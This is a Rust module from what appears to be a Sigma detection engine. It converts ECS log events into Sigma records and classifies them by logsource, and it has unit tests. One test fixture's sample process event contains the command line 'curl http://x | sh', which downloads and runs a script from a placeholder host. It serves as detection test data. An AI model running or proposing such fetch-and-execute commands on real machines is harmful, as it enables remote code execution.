//! [`FieldMapping`]: ECS events to Sigma records.
//!
//! The mapping is data (`data/ecs.toml`, compiled in): ECS field names to Sigma field names,
//! prefix rewrites, and rules that classify an event into Sigma `product`/`category`/`service`
//! so [`crate::RuleSet`] knows which rules describe it.

use std::collections::BTreeMap;
use std::sync::OnceLock;

use serde::Deserialize;
use serde_json::Value;

use crate::SigmaError;
use crate::record::{FieldValue, Record};

const ECS_TOML: &str = include_str!("../data/ecs.toml");

/// Deepest nesting of an ECS event that is flattened.
const MAX_DEPTH: usize = 16;

#[derive(Debug, Deserialize)]
#[serde(untagged)]
enum OneOrMany {
    One(String),
    Many(Vec<String>),
}

impl OneOrMany {
    fn into_vec(self) -> Vec<String> {
        match self {
            OneOrMany::One(s) => vec![s],
            OneOrMany::Many(v) => v,
        }
    }
}

#[derive(Debug, Deserialize)]
#[serde(deny_unknown_fields)]
struct MappingFile {
    #[serde(default)]
    fields: BTreeMap<String, OneOrMany>,
    #[serde(default)]
    prefixes: Vec<Prefix>,
    #[serde(default)]
    classify: Vec<ClassifyEntry>,
}

#[derive(Debug, Deserialize)]
#[serde(deny_unknown_fields)]
struct Prefix {
    ecs: String,
    sigma: String,
}

#[derive(Debug, Deserialize)]
#[serde(deny_unknown_fields)]
struct ClassifyEntry {
    when: BTreeMap<String, String>,
    #[serde(default)]
    product: Option<String>,
    #[serde(default)]
    category: Option<OneOrMany>,
    #[serde(default)]
    service: Option<String>,
}

#[derive(Debug)]
struct Classify {
    when: Vec<(String, String)>,
    product: Option<String>,
    categories: Vec<String>,
    service: Option<String>,
}

/// ECS -> Sigma field names and logsource classification.
#[derive(Debug)]
pub struct FieldMapping {
    fields: BTreeMap<String, Vec<String>>,
    prefixes: Vec<(String, String)>,
    classify: Vec<Classify>,
}

impl FieldMapping {
    /// The built-in mapping (`data/ecs.toml`).
    pub fn builtin() -> &'static FieldMapping {
        static MAP: OnceLock<FieldMapping> = OnceLock::new();
        MAP.get_or_init(|| {
            // Part of this crate and tested; failing here is a build defect.
            FieldMapping::from_toml(ECS_TOML).expect("data/ecs.toml is valid")
        })
    }

    /// Parses a mapping in the format of `data/ecs.toml`.
    pub fn from_toml(text: &str) -> Result<FieldMapping, SigmaError> {
        let file: MappingFile =
            toml::from_str(text).map_err(|e| SigmaError::Mapping(e.to_string()))?;
        Ok(FieldMapping {
            fields: file
                .fields
                .into_iter()
                .map(|(k, v)| (k, v.into_vec()))
                .collect(),
            prefixes: file
                .prefixes
                .into_iter()
                .map(|p| (p.ecs, p.sigma))
                .collect(),
            classify: file
                .classify
                .into_iter()
                .map(|c| Classify {
                    when: c.when.into_iter().collect(),
                    product: c.product,
                    categories: c.category.map(OneOrMany::into_vec).unwrap_or_default(),
                    service: c.service,
                })
                .collect(),
        })
    }

    /// Builds the record of an ECS event (nested objects or dotted keys): Sigma names first,
    /// then every original ECS field, then `product`/`category`/`service`.
    pub fn record_from_ecs(&self, event: &Value) -> Record {
        let mut flat: Vec<(String, &Value)> = Vec::new();
        flatten("", event, 0, &mut flat);
        let mut rec = Record::default();
        for (name, value) in &flat {
            if let Some(sigma) = self.fields.get(name.as_str()) {
                for s in sigma {
                    rec.push(s, FieldValue::from_json(value));
                }
            }
            for (ecs, sigma) in &self.prefixes {
                if let Some(rest) = name.strip_prefix(ecs.as_str())
                    && !rest.is_empty()
                {
                    rec.push(&format!("{sigma}{rest}"), FieldValue::from_json(value));
                }
            }
        }
        for (name, value) in &flat {
            rec.push(name, FieldValue::from_json(value));
        }
        let lookup = |field: &str| flat.iter().find(|(n, _)| n == field).map(|(_, v)| *v);
        let mut product = None;
        let mut service = None;
        let mut categories: Vec<&str> = Vec::new();
        for c in &self.classify {
            let holds = c.when.iter().all(|(field, want)| match lookup(field) {
                None | Some(Value::Null) => false,
                Some(_) if want == "*" => true,
                Some(Value::Array(items)) => items.iter().any(|i| json_eq(i, want)),
                Some(v) => json_eq(v, want),
            });
            if !holds {
                continue;
            }
            if product.is_none() {
                product = c.product.as_deref();
            }
            if service.is_none() {
                service = c.service.as_deref();
            }
            for cat in &c.categories {
                if !categories.contains(&cat.as_str()) {
                    categories.push(cat);
                }
            }
        }
        if let Some(p) = product {
            rec.push("product", FieldValue::text(p));
        }
        if !categories.is_empty() {
            rec.push(
                "category",
                FieldValue::from_json(&Value::Array(
                    categories
                        .iter()
                        .map(|c| Value::String(c.to_string()))
                        .collect(),
                )),
            );
        }
        if let Some(s) = service {
            rec.push("service", FieldValue::text(s));
        }
        rec.finish();
        rec
    }
}

fn json_eq(v: &Value, want: &str) -> bool {
    match v {
        Value::String(s) => s.eq_ignore_ascii_case(want),
        Value::Number(n) => n.to_string() == want,
        Value::Bool(b) => b.to_string() == want,
        _ => false,
    }
}

fn flatten<'a>(prefix: &str, v: &'a Value, depth: usize, out: &mut Vec<(String, &'a Value)>) {
    match v {
        Value::Object(map) if depth < MAX_DEPTH => {
            for (k, child) in map {
                let name = if prefix.is_empty() {
                    k.clone()
                } else {
                    format!("{prefix}.{k}")
                };
                flatten(&name, child, depth + 1, out);
            }
        }
        other => {
            if !prefix.is_empty() && out.len() < crate::record::MAX_FIELDS {
                out.push((prefix.to_string(), other));
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use serde_json::json;

    #[test]
    fn builtin_parses() {
        let m = FieldMapping::builtin();
        assert_eq!(m.fields["process.executable"], ["Image"]);
    }

    #[test]
    fn maps_fields_and_classifies() {
        let ev = json!({
            "@timestamp": "2024-05-01T10:00:00Z",
            "event": {"category": ["process"], "type": ["start"]},
            "host": {"os": {"type": "linux"}, "name": "web1"},
            "process": {"executable": "/usr/bin/curl", "command_line": "curl http://x | sh",
                        "parent": {"executable": "/bin/bash"}},
            "user.name": "root"
        });
        let r = FieldMapping::builtin().record_from_ecs(&ev);
        assert_eq!(r.get("Image").unwrap().as_str(), Some("/usr/bin/curl"));
        assert_eq!(r.get("ParentImage").unwrap().as_str(), Some("/bin/bash"));
        assert_eq!(r.get("User").unwrap().as_str(), Some("root"));
        assert_eq!(
            r.get("process.executable").unwrap().as_str(),
            Some("/usr/bin/curl")
        );
        assert_eq!(r.get("product").unwrap().as_str(), Some("linux"));
        assert_eq!(r.get("category").unwrap().to_string(), "process_creation");
        assert_eq!(r.timestamp(), Some("2024-05-01T10:00:00Z"));
    }

    #[test]
    fn winlogbeat_event_data_prefix() {
        let ev = json!({"winlog": {"channel": "Security", "event_id": 4688,
            "event_data": {"NewProcessName": "C:\\x.exe"}}});
        let r = FieldMapping::builtin().record_from_ecs(&ev);
        assert_eq!(r.get("NewProcessName").unwrap().as_str(), Some("C:\\x.exe"));
        assert_eq!(r.get("Channel").unwrap().as_str(), Some("Security"));
        assert_eq!(r.get("EventID").unwrap().as_str(), Some("4688"));
        assert_eq!(r.get("product").unwrap().as_str(), Some("windows"));
    }

    #[test]
    fn registry_change_is_two_categories() {
        let ev = json!({"event": {"category": "registry", "type": "change"}, "registry": {"path": "HKLM\\x"}});
        let r = FieldMapping::builtin().record_from_ecs(&ev);
        let cats: Vec<&str> = r.get("category").unwrap().texts().collect();
        assert_eq!(cats, ["registry_set", "registry_event"]);
    }

    #[test]
    fn bad_mapping_is_an_error() {
        assert!(FieldMapping::from_toml("[fields]\nx = 1\n").is_err());
        assert!(FieldMapping::from_toml("bogus = 1\n").is_err());
    }
}
